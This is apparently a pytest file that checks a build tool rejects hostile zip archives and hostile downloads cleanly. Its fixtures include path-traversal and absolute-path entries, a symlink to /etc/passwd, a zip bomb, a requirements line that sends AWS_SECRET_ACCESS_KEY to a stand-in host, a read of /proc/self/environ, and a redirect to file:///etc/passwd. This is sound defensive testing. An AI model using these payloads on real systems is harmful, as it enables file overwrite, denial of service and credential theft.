"""A corpus of hostile or broken source archives and downloads, each built through the
CLI as a `[source].url`: exit 1, one line on stderr naming the problem, no traceback,
no `internal error`, nothing written outside the cache."""

from __future__ import annotations

import contextlib
import hashlib
import io
import struct
import threading
import time
import zipfile
from collections.abc import Callable
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from pmcp_build.source import fetch

from .helpers import HOST_ARCH, HOST_PY

SERVER = b"from boot import metorial\nmetorial.create_server('r')\n"


def _zip(members: list[tuple[str, bytes]], method: int = zipfile.ZIP_STORED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as zf:
        for name, data in members:
            info = zipfile.ZipInfo(name, (2020, 1, 1, 0, 0, 0))
            info.external_attr = 0o100644 << 16
            info.compress_type = method
            zf.writestr(info, data)
    return buf.getvalue()


def _symlink() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        info = zipfile.ZipInfo("link")
        info.external_attr = 0o120777 << 16
        zf.writestr(info, "/etc/passwd")
        zf.writestr("server.py", SERVER)
    return buf.getvalue()


def _patch_central(data: bytes, offset: int, fmt: str, value: int) -> bytes:
    """Overwrite a field of the first central directory header (and the local one)."""
    cd = data.index(b"PK\x01\x02")
    out = bytearray(data)
    struct.pack_into(fmt, out, cd + offset, value)
    return bytes(out)


def _patch_local(data: bytes, offset: int, fmt: str, value: int) -> bytes:
    out = bytearray(data)
    struct.pack_into(fmt, out, offset, value)
    return bytes(out)


def _bad_crc() -> bytes:
    data = _zip([("server.py", SERVER)])
    return data.replace(b"create_server", b"create_sErver", 1)


def _bad_deflate() -> bytes:
    data = bytearray(_zip([("server.py", SERVER * 50)], zipfile.ZIP_DEFLATED))
    start = 30 + len("server.py")
    for i in range(start + 2, start + 12):
        data[i] ^= 0xFF
    return bytes(data)


def _lying_size() -> bytes:
    data = _zip([("server.py", SERVER)])
    # Uncompressed size (central header offset 24, local 22) claims 3 bytes.
    return _patch_local(_patch_central(data, 24, "<I", 3), 22, "<I", 3)


def _encrypted() -> bytes:
    data = _zip([("server.py", SERVER)])
    return _patch_local(_patch_central(data, 8, "<H", 1), 6, "<H", 1)


def _unsupported_method() -> bytes:
    data = _zip([("server.py", SERVER)])
    return _patch_local(_patch_central(data, 10, "<H", 99), 8, "<H", 99)


def _bomb() -> bytes:
    return _zip([("bomb.txt", b"\0" * (20 * 1024 * 1024))], zipfile.ZIP_DEFLATED)


ARCHIVES: dict[str, tuple[Callable[[], bytes], str]] = {
    "traversal": (lambda: _zip([("../evil.py", b"x")]), "path traversal"),
    "nested traversal": (lambda: _zip([("a/../../evil.py", b"x")]), "path traversal"),
    "dot slash traversal": (lambda: _zip([("./../x.py", b"x")]), "path traversal"),
    "backslash traversal": (lambda: _zip([("..\\evil.py", b"x")]), "path traversal"),
    "absolute": (lambda: _zip([("/etc/cron.d/evil", b"x")]), "absolute path"),
    "windows absolute": (lambda: _zip([("C:\\evil.py", b"x")]), "absolute path"),
    "symlink": (_symlink, "symlink"),
    "duplicate": (lambda: _zip([("a.py", b"1"), ("a.py", b"2")]), "appears twice"),
    "duplicate by case": (lambda: _zip([("A.py", b"1"), ("a.py", b"2")]), "appears twice"),
    "zip bomb": (_bomb, "zip bomb"),
    "bad crc": (_bad_crc, "not a valid zip archive"),
    "bad deflate stream": (_bad_deflate, "archive"),
    "lying size": (_lying_size, "zip archive"),
    "encrypted": (_encrypted, "cannot be read"),
    "unsupported compression": (_unsupported_method, "unsupported zip feature"),
    "truncated": (lambda: _zip([("server.py", SERVER * 40)])[:200], "not a zip archive"),
    "empty file": (lambda: b"", "not a zip archive"),
    "random bytes": (lambda: bytes(range(256)) * 16, "not a zip archive"),
    "text": (lambda: b"<html>not found</html>", "not a zip archive"),
    "300-char name": (lambda: _zip([("a" * 300 + ".py", b"x")]), "name too long"),
    "deep path": (lambda: _zip([("d/" * 600 + "x.py", b"x")]), "name too long"),
    "file-folder clash": (
        lambda: _zip([("a", b"1"), ("a/b.py", b"2")]),
        "both a file and a folder",
    ),
    "file-folder clash by case": (
        lambda: _zip([("Lib", b"1"), ("lib/b.py", b"2")]),
        "both a file and a folder",
    ),
    "entry named ..": (lambda: _zip([("..", b"x"), ("server.py", SERVER)]), "path traversal"),
    "bad central offset": (
        lambda: _patch_central(_zip([("server.py", SERVER)]), 42, "<I", 10_000_000),
        "archive",
    ),
    "requirements read the environment": (
        lambda: _zip(
            [
                ("server.py", SERVER),
                ("requirements.txt", b"x @ http://h/${AWS_SECRET_ACCESS_KEY}\n"),
            ]
        ),
        "environment variable references",
    ),
    "requirements include a host file": (
        lambda: _zip([("server.py", SERVER), ("requirements.txt", b"-r /proc/self/environ\n")]),
        "outside the source",
    ),
    "no entrypoint": (lambda: _zip([("README.md", b"hi")]), "no entrypoint"),
}


def _url_project(tmp_path: Path, url: str, sha: str) -> Path:
    project = tmp_path / "url-project"
    project.mkdir(exist_ok=True)
    (project / "metorial.toml").write_text(
        f'[server]\nname = "remote"\n[source]\nurl = "{url}"\nsha256 = "{sha}"\n'
        f'[runtime]\nkind = "python"\npython = "{HOST_PY}"\narchitecture = "{HOST_ARCH}"\n'
    )
    return project


def _one_line(result: Any, fragment: str) -> None:
    assert result.exit_code == 1, result.output
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, result.stderr
    assert fragment in lines[0], lines[0]
    assert "Traceback" not in result.output and "internal error" not in result.output


def test_the_corpus_is_large_enough() -> None:
    assert len(ARCHIVES) + len(DOWNLOADS) >= 30


@pytest.mark.parametrize("case", sorted(ARCHIVES))
def test_hostile_archive_is_one_clear_line(
    cli: Any, tmp_path: Path, http_dir: Any, case: str
) -> None:
    make, fragment = ARCHIVES[case]
    root, base = http_dir
    data = make()
    (root / "src.zip").write_bytes(data)
    project = _url_project(tmp_path, f"{base}/src.zip", hashlib.sha256(data).hexdigest())
    before = set(tmp_path.iterdir())
    _one_line(cli("-C", str(project), "build"), fragment)
    assert set(tmp_path.iterdir()) == before
    assert not (tmp_path / "evil.py").exists() and not (tmp_path.parent / "evil.py").exists()


@pytest.mark.parametrize(
    "limit, value, fragment",
    [
        ("MEMBER_COUNT_LIMIT", 2, "entries is more than 2"),
        ("MEMBER_LIMIT", 10, "over the per-file cap"),
        ("EXTRACT_LIMIT", 60, "expands to more than"),
    ],
)
def test_archive_limits(
    cli: Any,
    tmp_path: Path,
    http_dir: Any,
    monkeypatch: pytest.MonkeyPatch,
    limit: str,
    value: int,
    fragment: str,
) -> None:
    monkeypatch.setattr(fetch, limit, value)
    root, base = http_dir
    data = _zip([("server.py", SERVER), ("b.py", b"x" * 40), ("c.py", b"y" * 40)])
    (root / "src.zip").write_bytes(data)
    project = _url_project(tmp_path, f"{base}/src.zip", hashlib.sha256(data).hexdigest())
    _one_line(cli("-C", str(project), "build"), fragment)


# -- downloads that never end, loop, or fail -------------------------------------------------


class _Hostile(BaseHTTPRequestHandler):
    # A peer hanging up is expected here; socketserver would print it to stderr, which
    # belongs to the CLI under test.
    def handle(self) -> None:
        with contextlib.suppress(OSError):
            super().handle()

    def do_GET(self) -> None:
        if self.path == "/drip":
            self.send_response(200)
            self.send_header("Content-Length", "1000000")
            self.end_headers()
            for _ in range(100):  # bounded: one byte every 0.5 s
                try:
                    self.wfile.write(b"P")
                    self.wfile.flush()
                except OSError:
                    return
                time.sleep(0.5)
        elif self.path.startswith("/loop"):
            self.send_response(302)
            self.send_header("Location", "/loop")
            self.end_headers()
        elif self.path == "/big":
            self.send_response(200)
            self.end_headers()
            for _ in range(3):
                try:
                    self.wfile.write(b"\0" * (1024 * 1024))
                except OSError:  # the client hung up at its cap, as it should
                    return
        elif self.path == "/scheme":
            self.send_response(302)
            self.send_header("Location", "file:///etc/passwd")
            self.end_headers()
        else:
            self.send_response(404)
            self.end_headers()

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture
def hostile_server() -> Any:
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Hostile)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()


DOWNLOADS = {
    "drip feed": ("/drip", {"PMCP_DOWNLOAD_TIMEOUT": "2"}, "did not finish downloading within 2 s"),
    "redirect loop": ("/loop", {}, "redirect"),
    "too big": ("/big", {"PMCP_DOWNLOAD_LIMIT_MB": "1"}, "larger than 1 MB"),
    "redirect to file://": ("/scheme", {}, "HTTP 302"),
    "not found": ("/nothing", {}, "HTTP 404"),
    "bad limit setting": ("/big", {"PMCP_DOWNLOAD_LIMIT_MB": "lots"}, "is not a number"),
}


@pytest.mark.parametrize("case", sorted(DOWNLOADS))
def test_hostile_downloads_end_in_one_line(
    cli: Any, tmp_path: Path, hostile_server: str, monkeypatch: pytest.MonkeyPatch, case: str
) -> None:
    path, env, fragment = DOWNLOADS[case]
    for key, value in env.items():
        monkeypatch.setenv(key, value)
    project = _url_project(tmp_path, f"{hostile_server}{path}", "0" * 64)
    started = time.monotonic()
    _one_line(cli("-C", str(project), "build"), fragment)
    assert time.monotonic() - started < 20  # bounded, not a timing claim


def test_refused_connection_is_one_line(cli: Any, tmp_path: Path) -> None:
    project = _url_project(tmp_path, "http://127.0.0.1:9/src.zip", "0" * 64)
    _one_line(cli("-C", str(project), "build"), "cannot download")
